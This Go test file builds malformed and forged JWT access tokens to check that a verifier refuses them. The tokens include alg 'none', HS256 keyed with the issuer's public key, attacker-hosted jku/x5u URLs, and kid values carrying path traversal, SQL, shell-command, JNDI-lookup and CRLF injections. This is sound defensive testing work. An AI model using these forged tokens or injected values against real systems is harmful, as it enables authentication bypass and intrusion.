// Copyright The Certbound Authors
// SPDX-License-Identifier: Apache-2.0

package tokenstest

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/asn1"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"math/big"
	"slices"
	"strings"

	"github.com/certbound/certbound/tokens"
	"github.com/certbound/certbound/tokens/internal/jose"
)

// sound shows what is accepted, so that the others are known to be refused for their defect.
func (m *museum) sound() {
	const clause = "RFC 9068, Section 4"
	m.token("no defect", clause, "", m.good())
	m.claims("no defect, with a scope, nbf and a claim that nobody knows", clause, "",
		with("scope", `"a b"`), with("nbf", fmt.Sprint(m.now)), with("x", `{"iss":1,"exp":[null]}`))
	m.claims("no defect, audience among others", "RS-07: RFC 7519, Section 4.1.3", "",
		with("aud", `["https://other.example",`+quote(Audience)+`]`))
	m.header("no defect, type with its prefix and in capitals", "RS-05: RFC 9068, Section 4", "",
		with("typ", `"APPLICATION/AT+JWT"`))
	m.header("header member that nobody knows", "RFC 7515, Section 4", "", with("x", `{"alg":"none"}`))
	m.header("header names in other case beside the real ones", "RS-11: RFC 7515, Section 4: another name", "",
		behind("ALG", `"none"`), behind("Kid", `"x"`), behind("TYP", `"JWT"`), behind("JWK", "{}"), behind("Crit", "[]"))
	m.claims("claim names in other case beside the real ones", "RS-11: RFC 7519, Section 4: another name", "",
		behind("ISS", `"x"`), behind("Aud", `"x"`), behind("EXP", "1"), behind("Cnf", "{}"))
	m.header("x5t#S256 in the header beside a cnf", "RS-03: RFC 7515, Section 4.1.8: no key is chosen by it", "",
		with("x5t#S256", `"x"`))
	input := m.input()
	r, s := ecdsaNumbers(m.tb, m.issuer.key, input)
	other := new(big.Int).Sub(m.issuer.public.Key.(*ecdsa.PublicKey).Params().N, s)
	const twins = "RS-13: RFC 7518, Section 3.4: both are signatures of the same input, and one of them is ours"
	m.token("s below n / 2", twins, "", input+"."+encode(string(joined(32)(r, s))))
	m.token("s replaced by n - s", twins, signatureForm, input+"."+encode(string(joined(32)(r, other))))
}

// algorithms is the first half of RS-08: what the header says.
func (m *museum) algorithms() {
	const clause = "RS-08: RFC 8725, Section 3.1"
	for _, alg := range []string{
		`"none"`, `"nOnE"`, `"NONE"`, `""`, `null`, `256`, `["ES256"]`, `{"ES256":1}`, `"es256"`, `" ES256"`, `"ES256 "`,
		`"ES256\u0000"`, `"ES384"`, `"ES512"`, `"ES256K"`, `"RS512"`, `"PS512"`, `"HS256"`, `"Ed448"`, `"Ed25519"`, `"RSA-OAEP"`,
		`"PBES2-HS256+A128KW"`, `"dir"`,
	} {
		m.header("alg "+alg+", signed as ES256", clause, malformed, with("alg", alg))
	}
	m.header("alg missing", clause, malformed, without("alg"))
	m.header("alg in capitals", clause, malformed, renamed("alg", "ALG"))
	for _, alg := range []string{"none", "nOnE", "ES256"} {
		reason := malformed
		if alg == "ES256" {
			reason = badSignature
		}
		m.token("alg "+alg+" and an empty signature", clause, reason, m.input(with("alg", quote(alg)))+".")
	}
}

// confusedKeys is the second half of RS-08: the issuer's public key taken for a key of another kind.
func (m *museum) confusedKeys() {
	const clause = "RS-08: RFC 8725, Sections 2.1 and 3.1"
	for name, secret := range sorted(m.publicForms()) {
		input := m.input(with("alg", `"HS256"`))
		mac := hmac.New(sha256.New, secret)
		mac.Write([]byte(input))
		m.token("HS256 with the public key as secret, "+name, clause, malformed, input+"."+encode(string(mac.Sum(nil))))
	}
	digestOf := func(input string) []byte { d := sha256.Sum256([]byte(input)); return d[:] }
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	m.must(err)
	id := m.issuer.public.ID
	input := m.input(with("alg", `"RS256"`))
	signature, err := rsa.SignPKCS1v15(nil, key, crypto.SHA256, digestOf(input))
	m.must(err)
	m.token("RS256 of a stranger with the issuer's kid", clause, notAllowed, input+"."+encode(string(signature)))
	m.published("RS256 of a published key where it is not allowed", clause, notAllowed, input+"."+encode(string(signature)),
		tokens.PublicKey{ID: id, Algorithm: tokens.RS256, Key: key.Public()})
	m.published("RS256 of a key that is published for PS256", clause, notAllowed, input+"."+encode(string(signature)),
		tokens.PublicKey{ID: id, Algorithm: tokens.PS256, Key: key.Public()})
	input = m.input(with("alg", `"PS256"`))
	signature, err = rsa.SignPSS(rand.Reader, key, crypto.SHA256, digestOf(input), &rsa.PSSOptions{SaltLength: 32})
	m.must(err)
	m.token("PS256 of a stranger with the issuer's kid", clause, badSignature, input+"."+encode(string(signature)))
	m.published("PS256 of a key that is published for ES256", clause, badSignature, input+"."+encode(string(signature)),
		tokens.PublicKey{ID: id, Algorithm: tokens.ES256, Key: key.Public()})
	signature, err = rsa.SignPSS(rand.Reader, key, crypto.SHA256, digestOf(input), &rsa.PSSOptions{SaltLength: 20})
	m.must(err)
	m.published("PS256 with a salt that is too short", "RS-08: RFC 7518, Section 3.5", badSignature,
		input+"."+encode(string(signature)), tokens.PublicKey{ID: id, Algorithm: tokens.PS256, Key: key.Public()})
	m.header("EdDSA in the header, signed as ES256", clause, badSignature, with("alg", `"EdDSA"`))
	_, edKey, err := ed25519.GenerateKey(rand.Reader)
	m.must(err)
	input = m.input(with("alg", `"EdDSA"`))
	m.token("EdDSA of a stranger with the issuer's kid", clause, badSignature,
		input+"."+encode(string(ed25519.Sign(edKey, []byte(input)))))
	m.token("EdDSA with a signature as long as one of Ed448", clause, badSignature,
		input+"."+encode(strings.Repeat("\x01", 114)))
}

// publicForms are the ways to write the issuer's public key that a confused verifier could take for a secret.
func (m *museum) publicForms() map[string][]byte {
	public := m.issuer.public.Key
	der, err := x509.MarshalPKIXPublicKey(public)
	m.must(err)
	point, err := public.(*ecdsa.PublicKey).Bytes()
	m.must(err)
	set, err := jose.MarshalKeySet([]jose.PublicKey{{ID: m.issuer.public.ID, Algorithm: jose.ES256, Key: public}})
	m.must(err)
	return map[string][]byte{
		"PEM": pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), "DER": der, "point": point,
		"x":       point[1:33],
		"key set": set, "kid": []byte(m.issuer.public.ID), "empty": nil,
	}
}

// publishedKeys are keys that do not fit the algorithm, though the issuer publishes them.
func (m *museum) publishedKeys() {
	const clause = "RS-08: RFC 8725, Section 3.1; RFC 7518, Section 3.4"
	id := m.issuer.public.ID
	p384, err := ecdsa.GenerateKey(elliptic.P384(), rand.Reader)
	m.must(err)
	input := m.input()
	raw := input + "." + encode(string(ecdsaSignature(m.tb, p384, input, 48)))
	m.token("ES256 in the header, signed with a P-384 key", clause, badSignature, raw)
	m.published("ES256 in the header, signed with a P-384 key that is published for ES256", clause, badSignature, raw,
		tokens.PublicKey{ID: id, Algorithm: tokens.ES256, Key: p384.Public()})
	m.published("key of P-384 published for ES256, numbers of 32 bytes", clause, badSignature, m.good(),
		tokens.PublicKey{ID: id, Algorithm: tokens.ES256, Key: p384.Public()})
	edPublic, edKey, err := ed25519.GenerateKey(rand.Reader)
	m.must(err)
	raw = input + "." + encode(string(ed25519.Sign(edKey, []byte(input))))
	m.published("ES256 in the header, signed with an Ed25519 key that is published for ES256", clause, badSignature, raw,
		tokens.PublicKey{ID: id, Algorithm: tokens.ES256, Key: edPublic})
	input = m.input(with("alg", `"EdDSA"`))
	raw = input + "." + encode(string(ed25519.Sign(edKey, []byte(input))))
	m.published("key of Ed25519 without its last byte", clause, badSignature, raw,
		tokens.PublicKey{ID: id, Algorithm: tokens.EdDSA, Key: edPublic[:31]})
	for name, key := range sorted(map[string]tokens.PublicKey{
		"for another algorithm": {Algorithm: tokens.EdDSA, Key: m.issuer.public.Key},
		"for no algorithm":      {Key: m.issuer.public.Key},
		"without the key":       {Algorithm: tokens.ES256},
		"as a secret":           {Algorithm: tokens.ES256, Key: []byte("secret")},
		"with its private part": {Algorithm: tokens.ES256, Key: m.issuer.key},
		"that is another's":     {Algorithm: tokens.ES256, Key: m.stranger.public.Key},
		"that is nil":           {Algorithm: tokens.ES256, Key: (*ecdsa.PublicKey)(nil)},
	}) {
		key.ID = id
		m.published("key published "+name, clause, badSignature, m.good(), key)
	}
	m.published("no key published", "RS-20: RFC 9068, Section 4", unknownKey, m.good(), []tokens.PublicKey{}...)
	second := m.stranger.public
	second.ID = id
	m.published("kid of two keys", "RS-21: RFC 7517, Section 4.5", unknownKey, m.good(), m.issuer.public, second)
	m.published("kid of one key that is published twice", "RS-21: RFC 7517, Section 4.5", unknownKey, m.good(),
		m.issuer.public, m.issuer.public)
}

// keysInHeader is RS-09: tokens that bring their own key, or say where to fetch it.
func (m *museum) keysInHeader() {
	const clause = "RS-09: RFC 8725, Section 3.10"
	set, err := jose.MarshalKeySet([]jose.PublicKey{{ID: "own", Algorithm: jose.ES256, Key: m.stranger.public.Key}})
	m.must(err)
	own := strings.TrimSuffix(strings.TrimPrefix(string(set), `{"keys":[`), `]}`)
	chain := `["` + base64.StdEncoding.EncodeToString(m.peer.Certificate().Raw) + `"]`
	location := `"https://attacker.invalid/keys"`
	for name, value := range sorted(map[string]string{
		"jwk": own, "jku": location, "x5u": location, "x5c": chain,
	}) {
		m.header(name+" in the header, signed by the issuer", clause, malformed, with(name, value))
		header := m.goodHeader().text([]edit{with(name, value), with("kid", `"own"`)})
		m.token(name+" in the header, signed with what it names", clause, malformed,
			m.stranger.Sign(m.tb, header, m.goodClaims().text(nil)))
		m.header(name+" in the header, null", clause, malformed, with(name, "null"))
	}
	m.header("jku of the issuer's own key set", clause, malformed, with("jku", quote(URL+"/.well-known/jwks.json")))
	m.header("jku that prolongs the issuer's name", clause, malformed, with("jku", quote(URL+"@attacker.invalid/")))
	m.header("jku of a file", clause, malformed, with("jku", `"file:///etc/passwd"`))
}

// critical is RS-10: extensions, of which none is understood.
func (m *museum) critical() {
	const clause = "RS-10: RFC 7515, Section 4.1.11"
	for name, value := range sorted(map[string]string{
		"crit that names what nobody knows": `["x"]`, "crit that is empty": "[]",
		"crit that names one twice":           `["x","x"]`,
		"crit that names a registered member": `["alg"]`, "crit that is a string": `"x"`, "crit that is null": "null",
		"crit that names what is not there": `["y"]`, "crit with an element that is no string": "[1]",
		"crit that names exp": `["exp"]`, "crit with the empty name": `[""]`,
	}) {
		m.header(name, clause, malformed, with("crit", value), with("x", "1"))
	}
	const detached = "RS-10: RFC 7797, Section 3"
	m.header("b64 false without crit", detached, malformed, with("b64", "false"))
	m.header("b64 true", detached, malformed, with("b64", "true"))
	m.header("b64 false with crit", detached, malformed, with("b64", "false"), with("crit", `["b64"]`))
	header := m.goodHeader().text([]edit{with("b64", "false"), with("crit", `["b64"]`)})
	unencoded := encode(header) + "." + m.goodClaims().text(nil)
	m.noToken("b64 false with crit, payload not encoded", detached, m.signed(unencoded))
	for name, value := range sorted(map[string]string{
		"zip": `"DEF"`, "enc": `"A256GCM"`, "epk": "{}", "cty": `"JWT"`,
	}) {
		m.header(name+" in the header", "RS-25: RFC 7516, Section 4.1", malformed, with(name, value))
	}
}

// duplicates is RS-11.
func (m *museum) duplicates() {
	const clause = "RS-11: RFC 7515, Section 4; RFC 7519, Section 4"
	for name, value := range sorted(map[string]string{
		"alg": `"none"`, "kid": `"x"`, "typ": `"JWT"`, "\\u0061lg": `"none"`, "ki\\u0064": `"x"`,
	}) {
		m.header(name+" twice in the header, the bad one last", clause, malformed, behind(name, value))
		m.header(name+" twice in the header, the bad one first", clause, malformed, before(name, value))
	}
	m.header("alg twice in the header, the same", clause, malformed, behind("alg", `"ES256"`))
	m.header("unknown member twice in the header", clause, malformed, behind("x", "1"), behind("x", "1"))
	m.header("member twice within a member of the header", clause, malformed, behind("x", `{"a":1,"a":1}`))
	for name, value := range sorted(map[string]string{
		"iss": `"https://other.example"`, "aud": `"https://other.example"`, "exp": "9999999999",
		"cnf": `{"x5t#S256":"x"}`,
		"sub": `"x"`, "client_id": `"x"`, "jti": `"x"`, "iat": "1", "\\u0065xp": "9999999999", "c\\u006ef": "{}",
	}) {
		m.claims("claim "+name+" twice, the bad one last", clause, malformedClaims, behind(name, value))
		m.claims("claim "+name+" twice, the bad one first", clause, malformedClaims, before(name, value))
	}
	good := quote(m.peer.Thumbprint().String())
	for name, cnf := range sorted(map[string]string{
		"last": `{"x5t#S256":"x","x5t#S256":` + good + `}`, "first": `{"x5t#S256":` + good + `,"x5t#S256":"x"}`,
		"escaped": `{"x5t#S256":` + good + `,"x5t\u0023S256":` + good + `}`,
	}) {
		m.claims("thumbprint twice within cnf, the good one "+name, clause, malformedClaims, with("cnf", cnf))
	}
	m.claims("member twice within an unknown claim", clause, malformedClaims, with("x", `{"a":{"b":1,"b":1}}`))
	m.claims("member twice within an array", clause, malformedClaims, with("x", `[[{"a":1,"a":1}]]`))
}

// types is RS-05: other JSON Web Tokens of the same issuer, good as far as their claims go.
func (m *museum) types() {
	const clause = "RS-05: RFC 9068, Section 4; RFC 8725, Section 3.11"
	for _, typ := range []string{
		"", "JWT", "jwt", "token-introspection+jwt", "logout+jwt", "dpop+jwt", "secevent+jwt", "certbound-deny+jwt",
		"client-authentication+jwt", "oauth-authz-req+jwt", "rt+jwt", "JOSE", "at jwt", "at+jwt ", "at+jwt;v=1", "application/jwt",
		"application/application/at+jwt", "text/at+jwt", "at+jwt\\u0000", "xat+jwt", "at+jwtx",
	} {
		m.header("typ "+quote(typ), clause, wrongType, with("typ", quote(typ)))
	}
	m.header("typ missing", clause, wrongType, without("typ"))
	m.header("typ in capitals", clause, wrongType, renamed("typ", "TYP"))
	for _, typ := range []string{"null", "1", `["at+jwt"]`} {
		m.header("typ "+typ, clause, malformed, with("typ", typ))
	}
	other := func(name, typ string, edits ...edit) {
		header := m.goodHeader().text([]edit{with("typ", quote(typ))})
		m.token(name, clause, wrongType, m.issuer.Sign(m.tb, header, m.goodClaims().text(edits)))
	}
	other("ID token", "JWT", with("nonce", `"n"`), with("auth_time", "1"))
	other("introspection response", "token-introspection+jwt", with("token_introspection", `{"active":true}`))
	other("logout token", "logout+jwt", with("events", `{"http://schemas.openid.net/event/backchannel-logout":{}}`))
	other("assertion of the client itself", "JWT", with("iss", quote(Client)))
}

// keyIDs is RS-22.
func (m *museum) keyIDs() {
	const clause = "RS-22: RFC 7515, Section 4.1.4"
	id := m.issuer.public.ID
	for name, kid := range sorted(map[string]string{
		"empty": "", "a path": "../../../../etc/passwd", "SQL": "' OR 1=1; --",
		"a URL":     "https://attacker.invalid/keys",
		"another's": m.stranger.public.ID, "in lower case": strings.ToLower(id), "with a space behind": id + " ",
		"cut off": id[:42], "prolonged": id + "A", "NUL": `\u0000`, "with NUL behind": id + `\u0000`, "a wildcard": "*",
		"of 256 bytes": strings.Repeat("k", 256), "a command": "`id`; $(id) | id",
		"a template": "${jndi:ldap://attacker.invalid}",
		"new lines":  `\r\nX: y`,
	}) {
		m.header("kid "+name, clause, unknownKey, with("kid", quote(kid)))
	}
	m.header("kid missing", clause, unknownKey, without("kid"))
	m.header("kid in capitals", clause, unknownKey, renamed("kid", "KID"))
	m.header("kid of 257 bytes", clause, malformed, with("kid", quote(strings.Repeat("k", 257))))
	for _, kid := range []string{"null", "0", "true", "[" + quote(id) + "]", `{"kid":` + quote(id) + `}`} {
		m.header("kid that is no string: "+kid[:1], clause, malformed, with("kid", kid))
	}
}

// signatures is RS-13, and signatures that are somebody else's.
func (m *museum) signatures() {
	const clause = "RS-13: RFC 7518, Section 3.4"
	n, zero := elliptic.P256().Params().N, new(big.Int)
	input := m.input()
	r, s := ecdsaNumbers(m.tb, m.issuer.key, input)
	raw := joined(32)
	highest := new(big.Int).Sub(new(big.Int).Lsh(big.NewInt(1), 256), big.NewInt(1))
	der, err := asn1.Marshal(struct{ R, S *big.Int }{r, s})
	m.must(err)
	for name, signature := range sorted(map[string][]byte{
		"r and s zero": raw(zero, zero), "r zero": raw(zero, s), "s zero": raw(r, zero), "r is n": raw(n, s),
		"s is n":      raw(r, n),
		"r and s one": raw(big.NewInt(1), big.NewInt(1)), "r and s as high as can be": raw(highest, highest),
		"r and s n - 1":              raw(new(big.Int).Sub(n, big.NewInt(1)), new(big.Int).Sub(n, big.NewInt(1))),
		"r is p - n":                 raw(new(big.Int).Sub(elliptic.P256().Params().P, n), s),
		"r and s in the other order": raw(s, r), "r of 33 bytes": append([]byte{0}, raw(r, s)...),
		"s of 33 bytes": slices.Concat(raw(r, s)[:32], []byte{0}, raw(r, s)[32:]), "zero behind": append(raw(r, s), 0),
		"numbers of 48 bytes": joined(48)(r, s), "in DER": der, "last byte missing": raw(r, s)[:63],
		"r only":   raw(r, s)[:32],
		"one byte": {0}, "twice": append(raw(r, s), raw(r, s)...),
	}) {
		m.token("signature: "+name, clause, badSignature, input+"."+encode(string(signature)))
	}
	m.token("signature: none", clause, badSignature, input+".")
	const theirs = "RS-06: RFC 9068, Section 4"
	m.token("signature: of another key with the issuer's kid", theirs, badSignature,
		m.stranger.Sign(m.tb, m.goodHeader().text(nil), m.goodClaims().text(nil)))
	m.token("signature: of the payload alone", theirs, badSignature,
		input+"."+encode(string(ecdsaSignature(m.tb, m.issuer.key, strings.SplitN(input, ".", 2)[1], 32))))
	one, two := strings.Split(m.good(), "."), strings.Split(m.good(), ".")
	m.token("signature: of another token", theirs, badSignature, one[0]+"."+one[1]+"."+two[2])
}

func (m *museum) must(err error) {
	m.tb.Helper()
	if err != nil {
		m.tb.Fatalf("tokenstest: %v", err)
	}
}
